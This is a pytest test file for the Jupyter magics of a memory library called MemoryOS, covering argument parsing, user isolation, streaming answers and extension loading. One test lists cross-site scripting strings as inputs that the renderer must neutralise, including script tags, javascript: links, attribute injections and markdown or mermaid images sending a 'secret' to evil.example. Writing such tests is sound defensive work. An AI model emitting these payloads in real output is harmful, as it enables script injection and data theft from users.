"""The magics in a shell of this process: what they choose, say, remember and refuse."""

from __future__ import annotations

import atexit
import sys
from pathlib import Path

import pytest
from IPython.core.displaypub import CapturingDisplayPublisher
from IPython.core.interactiveshell import InteractiveShell
from traitlets.config import Config

from memoryos_engine import (
    ChatModelError,
    ClosedError,
    InvalidInput,
    MemoryOS,
    Memoryos,
    ScriptedChatModel,
    StoreError,
    UserMemory,
)
from memoryos_engine.storage.lock import NOTE_NAME
from memoryos_integrations.jupyter.brief_errors import MagicUsageError
from memoryos_integrations.jupyter.cell_output import PAUSE, GrowingAnswer, spoken
from memoryos_integrations.jupyter.chat_turn import answered_turn
from memoryos_integrations.jupyter.magics import GIVEN_BACK
from memoryos_integrations.jupyter.notebook_session import session_of
from tests.jupyter.reading import parsed

EXTENSION = "memoryos_integrations.jupyter"
WORDS = (
    "The words are: user NAME, assistant NAME, session NAME, path DIR, model NAME, use VARIABLE, status, explore, "
    "close. A name with spaces needs quotes."
)
OFFLINE = "No model: what you said is remembered, and nothing was answered. "


class Notebook:
    """A shell whose cells either succeed or raise what they failed with, and what it showed."""

    def __init__(self, shell: InteractiveShell) -> None:
        self.shell = shell
        self.shown: list[dict[str, str]] = []

    def run(self, source: str):
        publisher = CapturingDisplayPublisher()
        before, self.shell.display_pub = self.shell.display_pub, publisher
        try:
            result = self.shell.run_cell(source)
        finally:
            self.shell.display_pub = before
            self.shown = [output["data"] for output in publisher.outputs]
        result.raise_error()
        return result.result

    def fail(self, source: str, kind: type[BaseException] = MagicUsageError) -> str:
        """Run a cell that fails; return what stands below it."""
        with pytest.raises(kind) as caught:
            self.run(source)
        assert type(caught.value) is kind
        (line,) = caught.value._render_traceback_()
        return line.removeprefix(f"{kind.__name__}: ")


@pytest.fixture
def notebook(tmp_path, monkeypatch):
    """A notebook in an empty directory; nothing of it is left in this process."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path / "ipython"))
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])  # the shell puts its own there
    monkeypatch.setattr(sys, "path", [*sys.path])
    InteractiveShell.clear_instance()
    shell = InteractiveShell.instance(config=Config(HistoryManager={"enabled": False}))
    shell.run_line_magic("load_ext", EXTENSION)
    yield Notebook(shell)
    session_of(shell).close()
    shell.restore_sys_module_state()
    shell.atexit_operations()
    atexit.unregister(shell.atexit_operations)  # once is all it can do
    InteractiveShell.clear_instance()


@pytest.fixture
def scripted(notebook, open_system):
    """A model that the notebook's memory answers with."""
    model = ScriptedChatModel()
    notebook.shell.user_ns["system"] = open_system(llm=model)
    notebook.run("%memoryos use system user tom")
    return model


def address(memory: UserMemory) -> tuple[str, str, str]:
    return memory.owner.user_id, memory.owner.assistant_id, memory.session_id


def place(memory: UserMemory) -> str | None:
    return memory.system.reference().path


def turns(memory: UserMemory) -> list[tuple[str, str]]:
    return [(page.user_input, page.agent_response) for page in memory.pages()]


def owner_note(path: Path) -> bool:
    return (path / NOTE_NAME).exists()


# -- choosing -----------------------------------------------------------------------------


def test_words_stand_in_any_order_and_stay_in_force(notebook, tmp_path):
    first = notebook.run("%memoryos path ./lessons user tom assistant tutor session monday")
    assert (address(first), place(first)) == (("tom", "tutor", "monday"), str(tmp_path / "lessons"))
    assert address(notebook.run("%memoryos session tuesday")) == ("tom", "tutor", "tuesday")
    assert address(notebook.run("%memoryos")) == ("tom", "tutor", "tuesday")
    last = notebook.run("%memoryos assistant coach user ann")
    assert (address(last), last.system) == (("ann", "coach", "tuesday"), first.system)


def test_only_a_user_has_to_be_named(notebook, tmp_path):
    memory = notebook.run("memory = %memoryos user tom\nmemory")

    assert (address(memory), place(memory)) == (("tom", "assistant", "default"), str(tmp_path / "memoryos_data"))


def test_what_is_chosen_before_the_user_is_noted_and_opens_nothing(notebook, tmp_path, monkeypatch):
    assert notebook.run("%memoryos path ./lessons") is None
    assert notebook.shown == [
        {"text/plain": "Noted; no user is chosen yet. Say whose memory this is: %memoryos user NAME"}
    ]
    assert not (tmp_path / "lessons").exists()
    monkeypatch.chdir(tmp_path / "ipython")
    assert place(notebook.run("%memoryos user tom")) == str(tmp_path / "lessons")


@pytest.mark.parametrize(
    ("written", "user"),
    [
        ('"Tom Smith"', "Tom Smith"),
        ("'Tom \"T\" Smith'", 'Tom "T" Smith'),
        ('"O\'Brien"', "O'Brien"),
        (r"DOMAIN\tom", r"DOMAIN\tom"),
        ("user", "user"),
        ("#1", "#1"),
        ("Søren王", "Søren王"),
        ("$", "$"),
        ("{}", "{}"),
    ],
)
def test_a_name_is_what_is_written(notebook, written, user):
    assert address(notebook.run(f"%memoryos user {written}"))[0] == user


@pytest.mark.parametrize("written", ["$who", "{who}", '"{who}"'])
def test_a_variable_is_one_value_whatever_it_holds(notebook, written):
    """A user's name must not be read as words that choose another user."""
    notebook.shell.user_ns["who"] = 'tom" user ann session x'

    assert address(notebook.run(f"%memoryos user {written}")) == ('tom" user ann session x', "assistant", "default")


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("", "no user is chosen yet. Say whose memory this is: %memoryos user NAME"),
        ("status", "no user is chosen yet. Say whose memory this is: %memoryos user NAME"),
        ("explore", "no user is chosen yet. Say whose memory this is: %memoryos user NAME"),
        ("user", "user needs a value: user NAME, in quotes if it has spaces."),
        ('user ""', "user needs a value: user NAME, in quotes if it has spaces."),
        ("user tom path", "path needs a value: path DIR, in quotes if it has spaces."),
        ("user tom user ann", "user is there twice. Leave one of them out."),
        (
            "user tom smith",
            f"%memoryos does not know the word 'smith'. {WORDS}",
        ),
        (
            "user O'Brien",
            "a quote is open at the end of the line. Close it, or put what has an apostrophe in it in double quotes.",
        ),
        (
            "user tom path ~no-such-user/x",
            "path '~no-such-user/x' begins with the home of a user who has none. Write it out.",
        ),
        ("user $nobody", "there is no variable 'nobody'. Assign it first, or write the value itself."),
        ("user {things}", "the variable 'things' holds a list, not text. Make it a str."),
        ("status close", "status and close cannot be done at once. Write a line for each."),
        ("use nothing", "there is no variable 'nothing'. Assign it first: nothing = MemoryOS(...)"),
        (
            "use number",
            "the variable 'number' holds a int. Name one that holds a MemoryOS, a UserMemory or a Memoryos.",
        ),
        ("use number path x", "use and path cannot be said at once: a variable has its own store."),
    ],
)
def test_a_mistake_fails_the_cell_in_one_line_that_names_the_fix(notebook, tmp_path, line, told):
    notebook.shell.user_ns |= {"number": 7, "things": []}

    assert notebook.fail(f"%memoryos {line}") == told
    assert list(tmp_path.iterdir()) == [tmp_path / "ipython"]


def test_what_cannot_be_opened_leaves_in_force_what_was(notebook, tmp_path):
    memory = notebook.run("%memoryos user tom")
    (tmp_path / "a file").write_text("")

    assert "cannot be used" in notebook.fail('%memoryos path "a file" user ann', StoreError)
    assert notebook.fail("%memoryos model gpt-4o-mini session x", InvalidInput) == (
        "model cannot be used by its name: api_key is missing. Set OPENAI_API_KEY before, for example "
        'os.environ["OPENAI_API_KEY"] = getpass.getpass(), or open the memory with another model yourself and take it: '
        "%memoryos use VARIABLE"
    )
    still = notebook.run("%memoryos")
    assert (address(still), still.system, still.system.closed) == (address(memory), memory.system, False)


def test_another_path_or_model_gives_the_store_before_back(notebook, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "any")
    first = notebook.run("%memoryos user tom path first")
    second = notebook.run("%memoryos path second")
    third = notebook.run("%memoryos model gpt-4o-mini")
    fourth = notebook.run("%memoryos model none")

    assert [memory.system.closed for memory in (first, second, third, fourth)] == [True, True, True, False]
    assert [memory.system.llm and memory.system.llm.name for memory in (second, third, fourth)] == [
        None,
        "gpt-4o-mini",
        None,
    ]
    assert (owner_note(tmp_path / "first"), owner_note(tmp_path / "second")) == (False, True)


def test_another_directory_of_the_notebook_does_not_move_the_store(notebook, tmp_path, monkeypatch):
    """A relative path means what it meant when it was chosen."""
    notebook.run("%memoryos user tom")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    notebook.run("%memoryos close")

    assert place(notebook.run("%memoryos session later")) == str(tmp_path / "memoryos_data")


def test_closing_gives_the_store_back_and_the_next_use_opens_it_again(notebook, tmp_path):
    notebook.run("%memoryos user tom")
    notebook.run("%%chat\nI live in Oslo.")
    notebook.run("%memoryos close")
    assert notebook.shown == [{"text/plain": GIVEN_BACK}]
    assert not owner_note(tmp_path / "memoryos_data")
    assert [page.user_input for page in notebook.run("%recall Where do I live?").short_term] == ["I live in Oslo."]
    assert owner_note(tmp_path / "memoryos_data")


def test_status_and_explorer_are_those_of_the_memory_in_use(notebook):
    memory = notebook.run("%memoryos user tom")

    assert notebook.run("%memoryos user ann status") == memory.status()
    assert address(notebook.run("%memoryos")) == ("ann", "assistant", "default")
    assert type(notebook.run("%memoryos explore")).__name__ == "MemoryExplorer"


# -- borrowing ----------------------------------------------------------------------------


def test_a_memory_of_the_notebook_is_used_and_never_closed(notebook, open_system, tmp_path):
    system = open_system()
    memo = Memoryos("bob", data_storage_path=tmp_path / "memo", assistant_id="guide")
    notebook.shell.user_ns |= {"system": system, "memory": system.memory("ann", "tutor", "monday"), "memo": memo}

    assert address(notebook.run("%memoryos use system user tom")) == ("tom", "assistant", "default")
    assert address(notebook.run("%memoryos use memory")) == ("ann", "tutor", "monday")
    assert address(notebook.run("%memoryos session tuesday use memory")) == ("ann", "tutor", "tuesday")
    assert address(notebook.run("%memoryos use memo")) == ("bob", "guide", "default")
    told = notebook.fail("%memoryos close")
    assert told == "the memory of 'memo' is yours to close: memo.close()"
    own = notebook.run("%memoryos path mine")
    notebook.run("%unload_ext " + EXTENSION)
    assert (system.closed, memo.system.closed, own.system.closed) == (False, False, True)
    memo.close()


def test_a_borrowed_memory_keeps_its_model_and_is_missed_when_it_is_closed(notebook, open_system):
    system = notebook.shell.user_ns["system"] = open_system()
    notebook.run("%memoryos use system user tom")

    assert notebook.fail("%memoryos model gpt-4o-mini") == (
        "the memory of 'system' has a model of its own, or none. Open it with llm=..., or say path DIR as well for a "
        "store that is opened with this model."
    )
    system.close()
    assert notebook.fail("%recall Anything?", ClosedError) == (
        "this MemoryOS is closed; open a new one with MemoryOS(path=...)"
    )


def test_a_memory_that_the_magics_opened_is_not_borrowed(notebook):
    notebook.run("memory = %memoryos user tom session monday")
    notebook.run("%memoryos user ann session default")
    memory = notebook.run("%memoryos use memory")

    assert (address(memory), memory.system.closed) == (("tom", "assistant", "monday"), False)
    notebook.run("%memoryos close")
    assert memory.system.closed


# -- recalling ----------------------------------------------------------------------------

QUESTIONS = (
    "Where do I work?",
    "Where do I work??",
    '"Why" is what?',
    "'tis the season, isn't it?",
    'an open " quote?',
    'three """ quotes?',
    "an open (bracket?",
    "a -- b --top-k 3 -x?",
    "--help?",
    "what is {memory} and {1/0} and $memory worth?",
    r"C:\new\?",
    "100% of what; !ls?",
    "何を？ ¿qué?",
    "%memoryos user ann?",
    "?",
)


@pytest.mark.parametrize("question", QUESTIONS)
def test_a_question_is_taken_to_the_letter(notebook, question):
    """IPython takes a line that ends in a question mark for a call for help, and expands braces and dollars."""
    notebook.run("%memoryos user tom")

    assert notebook.run(f"%recall {question}").query == question
    assert notebook.run(f"found = %recall {question}\nfound").query == question
    assert notebook.run(f"if True:\n    found = %recall {question}\nfound.query") == question
    assert notebook.run(
        f"%memoryos session x\n%recall {question}\nfound = %recall then?\n%recall {question}"
    ).query == (question)


def test_variables_stand_in_a_value_for_what_they_hold(notebook):
    notebook.shell.user_ns |= {"number": 7, "name": 'tom" user "ann {number} $number'}

    assert notebook.run("%memoryos user reader-{number}-$number").owner.user_id == "reader-7-7"
    assert notebook.run("%memoryos user x{name}").owner.user_id == 'xtom" user "ann {number} $number'


def test_help_for_the_magic_and_for_names_is_still_there(notebook, capsys):
    notebook.run("%recall?")
    assert "which is taken to the letter" in capsys.readouterr().out
    notebook.run("nobody?")
    assert capsys.readouterr().out == "Object `nobody` not found.\n"


def test_the_number_of_pages_can_be_said_before_the_question(notebook, open_system):
    notebook.shell.user_ns["system"] = open_system(short_term_capacity=1)
    memory = notebook.run("%memoryos use system user tom")
    for animal in ("reindeer", "canaries", "goats"):
        memory.add_memory(f"My sister keeps {animal}.", "I see.")

    found = notebook.run("%recall --top-k 2 Which animals does my sister keep --top-k 1?")
    assert (found.query, len(found.pages)) == ("Which animals does my sister keep --top-k 1?", 2)
    assert len(notebook.run("%recall --top-k=1 Which animals?").pages) == 1


@pytest.mark.parametrize(
    ("line", "kind", "told"),
    [
        ("", MagicUsageError, "%recall needs a question: %recall What do I do for work?"),
        ("--top-k 3", MagicUsageError, "%recall needs a question: %recall What do I do for work?"),
        (
            "--top-k three what?",
            MagicUsageError,
            "--top-k needs a whole number: %recall --top-k 3 What do I do for work?",
        ),
        ("--top-k", MagicUsageError, "--top-k needs a whole number: %recall --top-k 3 What do I do for work?"),
        ("--top-k 0 what?", InvalidInput, "--top-k is 0. Pass an int of 1 or more."),
    ],
)
def test_a_question_that_is_none_is_refused(notebook, line, kind, told):
    notebook.run("%memoryos user tom")

    assert notebook.fail(f"%recall {line}", kind) == told


def test_nothing_is_recalled_or_said_before_a_user_is_chosen(notebook):
    told = "no user is chosen yet. Say whose memory this is: %memoryos user NAME"

    assert (notebook.fail("%recall What?"), notebook.fail("%%chat\nHello.")) == (told, told)


# -- chatting -----------------------------------------------------------------------------


def test_an_answer_is_shown_and_remembered(notebook, scripted):
    scripted.enqueue("Reindeer! *How many*?")
    said = 'My sister {Olga} keeps $reindeer.\n\n  They say "hello" -- what?'

    assert notebook.run(f'%%chat --style "warm and brief"\n{said}\n') is None
    assert notebook.shown == [spoken("Reindeer! *How many*?")]
    assert turns(notebook.run("%memoryos")) == [(said, "Reindeer! *How many*?")]
    system, user = scripted.requests[0]
    assert ("warm and brief" in system.content, user.content) == (True, said)


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (
            "Hello.",
            "'Hello.'. What you say goes into the lines below it; beside it goes --style \"warm and brief\" alone.",
        ),
        (
            "--tone warm",
            "'--tone'. What you say goes into the lines below it; beside it goes --style \"warm and brief\" alone.",
        ),
        ("--style warm and brief", "'and'. A style of several words needs quotes: \"warm ...\""),
    ],
)
def test_what_chat_does_not_know_is_refused_before_anything_is_asked(notebook, scripted, line, told):
    assert notebook.fail(f"%%chat {line}\nHello.") == f"%%chat does not know {told}"
    assert notebook.fail("%%chat --style\nHello.") == "--style needs a value: --style TEXT, in quotes if it has spaces."
    assert notebook.fail("%%chat\n  \n\t\n") == (
        "%%chat has nothing to say. Write what you say into the lines below it."
    )
    assert (scripted.requests, turns(notebook.run("%memoryos"))) == ([], [])


def test_without_a_model_what_fits_is_shown_and_what_was_said_is_remembered(notebook, open_system):
    notebook.run("%memoryos user tom")
    notebook.run("%%chat\nMy sister Olga keeps reindeer.")
    memory = notebook.run("%memoryos session later")
    notebook.run("%%chat\nWhich animals does Olga keep?")

    found, line = notebook.shown
    assert "My sister Olga keeps reindeer." in found["text/plain"]
    assert line == {"text/plain": OFFLINE + "For answers: %memoryos model NAME"}
    assert turns(memory) == [("My sister Olga keeps reindeer.", ""), ("Which animals does Olga keep?", "")]
    notebook.shell.user_ns["system"] = open_system()
    notebook.run("%memoryos use system")
    notebook.run("%%chat\nHello.")
    assert notebook.shown[1] == {"text/plain": OFFLINE + "Pass llm=... where 'system' is opened."}


def test_a_model_that_fails_fails_the_cell_and_leaves_nothing_in_memory(notebook, scripted):
    scripted.enqueue(ChatModelError("the model 'x' did not answer."), "It is back.")

    assert notebook.fail("%%chat\nHello.", ChatModelError) == (
        "the model 'x' did not answer. Nothing of this turn is remembered; run the cell again."
    )
    assert (notebook.shown, turns(notebook.run("%memoryos"))) == ([], [])
    notebook.run("%%chat\nHello.")
    assert turns(notebook.run("%memoryos")) == [("Hello.", "It is back.")]


class Breaking:
    """A model that says a little and breaks off with what it is given."""

    name = "breaking"

    def __init__(self, end: BaseException) -> None:
        self.end = end
        self.closed = False

    def complete(self, messages):
        raise AssertionError("it is streamed")

    def stream(self, messages):
        try:
            yield "It was "
            yield "the "
            raise self.end
        finally:
            self.closed = True


@pytest.mark.parametrize(
    ("end", "told"),
    [
        (ChatModelError("it broke off."), "it broke off. Nothing of this turn is remembered; run the cell again."),
        (KeyboardInterrupt(), "Interrupted. Nothing of this turn is remembered; run the cell again."),
    ],
    ids=["the model", "the user"],
)
def test_an_answer_that_breaks_off_is_closed_marked_and_not_remembered(notebook, open_system, end, told):
    model = Breaking(end)
    notebook.shell.user_ns["system"] = open_system(llm=model)
    memory = notebook.run("%memoryos use system user tom")

    assert notebook.fail("%%chat\nWho was it?", type(end)) == told
    assert notebook.shown[-1] == {"text/plain": "It was the \n[broken off; not remembered]"}
    assert (model.closed, turns(memory)) == (True, [])


def test_an_interrupt_after_the_last_piece_says_that_the_turn_is_remembered(notebook, system):
    class Late(UserMemory):
        def stream_response(self, query, **options):
            yield "All of it."
            self.add_memory(query, "All of it.")
            raise KeyboardInterrupt

    memory = Late(system, system.memory("tom").owner, session_id="default")
    with pytest.raises(KeyboardInterrupt, match="when the answer was whole; the turn is remembered"):
        answered_turn(memory, "Who?", GrowingAnswer(live=False))

    assert turns(memory) == [("Who?", "All of it.")]


def test_two_users_never_meet(notebook):
    notebook.run("%memoryos user tom")
    notebook.run("%%chat\nMy password is swordfish.")
    ann = notebook.run("%memoryos user ann")
    found = notebook.run("%recall What is my password?")
    notebook.run("%%chat\nWhat is my password?")

    assert (found.pages, found.short_term) == ((), ())
    assert not any("swordfish" in text for data in notebook.shown for text in data.values())
    assert turns(ann) == [("What is my password?", "")]
    assert turns(notebook.run("%memoryos user tom")) == [("My password is swordfish.", "")]


# -- what is shown ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "shown"),
    {
        "**bold** *soft* `code`": "<p><strong>bold</strong> <em>soft</em> <code>code</code></p>",
        "- one\n- two": "<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
        "```python\n1 < 2\n```": '<pre><code class="language-python">1 &lt; 2\n</code></pre>',
        "it costs $5, not $7": "<p>it costs $5, not $7</p>",
        "2 < 3 & 5": "<p>2 &lt; 3 &amp; 5</p>",
        "# Olga\n\n> reindeer": "<h1>Olga</h1>\n<blockquote>\n<p>reindeer</p>\n</blockquote>",
    }.items(),
)
def test_the_markdown_of_an_answer_that_can_only_be_read_is_shown(answer, shown):
    html = spoken(answer)["text/html"]

    assert parsed(html).find(class_="mo-answer") == parsed(f'<div class="mo-answer" dir="auto">{shown}\n</div>').div
    assert spoken(answer)["text/plain"] == answer


@pytest.mark.parametrize(
    "answer",
    [
        "<script>alert(1)</script>",
        "<IMG src=x onerror=alert(1)>",
        "</div></div><h1>mine</h1>",
        "<javascript:alert(1)>",
        "![](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](\njavascript:alert(1))",
        "[x][y]\n\n[y]: javascript:alert(1)",
        r"$\href{javascript:alert(1)}{x}$",
        '[x](https://e.invalid/$"onmouseover="taken()"style="background:url(https://evil.invalid)"$)',
        'https://e.invalid/$"style="background:url(https://evil.invalid)"$',
        '[x](https://e.invalid "$"onmouseover="taken()$")',
        '[x][1]\n\n[1]: https://e.invalid/$"onmouseover="taken()$',
        '```$"onmouseover="taken()$\nx\n```',
        '[x](https://e.invalid/\\begin{a}"onmouseover="taken()"\\end{a})',
        '```mermaid\nflowchart TD\n  A@{ img: "https://evil.invalid/?secret" }\n```',
    ],
)
def test_an_answer_that_could_do_something_is_shown_as_text(answer):
    """Front ends trust what a notebook made itself, and what is remembered may speak through a model."""
    data = spoken(answer)
    inside = parsed(data["text/html"]).find(class_="mo-answer")

    assert set(data) == {"text/plain", "text/html"}
    assert {tag.name for tag in inside.find_all(True)} <= {"p", "br", "pre", "code"}
    assert {name for tag in inside.find_all(True) for name in tag.attrs} <= {"class"}


def test_an_answer_moves_no_cursor():
    shown = "red ␛[31m\nand �turned"

    data = spoken("red \x1b[31m\nand \u202eturned")

    assert (data["text/plain"], parsed(data["text/html"]).find(class_="mo-answer").get_text().strip()) == (shown, shown)


def test_a_growing_answer_is_shown_at_most_ten_times_a_second(notebook):
    now = [0.0]
    views: list[str] = []

    class Seen(GrowingAnswer):
        def _show(self, data):
            views.append(data["text/plain"])

    live, still = (Seen(live=live, clock=lambda: now[0]) for live in (True, False))
    for piece in "abcdefgh":
        live.add(piece)
        now[0] += PAUSE / 4
    live.finish()
    assert views == ["a", "abcde", "abcdefgh"]
    views.clear()
    still.add("a")
    still.finish()
    assert views == ["a"]


# -- loading ------------------------------------------------------------------------------


def test_reloading_keeps_what_was_chosen_and_no_second_store_open(notebook, tmp_path):
    before = notebook.run("%memoryos user tom session monday path mine")
    notebook.run("%%chat\nI live in Oslo.")
    notebook.run("%reload_ext " + EXTENSION)

    assert (before.system.closed, owner_note(tmp_path / "mine")) == (True, False)
    after = notebook.run("%memoryos")
    assert (address(after), turns(after)) == (("tom", "assistant", "monday"), [("I live in Oslo.", "")])
    assert notebook.run("%recall Where?").query == "Where?"


def test_unloading_takes_away_what_loading_brought_and_nothing_else(notebook, tmp_path):
    notebook.run("%memoryos user tom")
    notebook.shell.register_magic_function(lambda line, cell: cell, "cell", "chat")
    for _ in range(2):
        notebook.run("%unload_ext " + EXTENSION)

    magics = notebook.shell.magics_manager.magics
    assert {name for kind in magics.values() for name in kind} & {"memoryos", "recall", "chat"} == {"chat"}
    assert notebook.run("%%chat\nHello.") == "Hello.\n"
    assert not owner_note(tmp_path / "memoryos_data")
    MemoryOS(tmp_path / "memoryos_data").close()
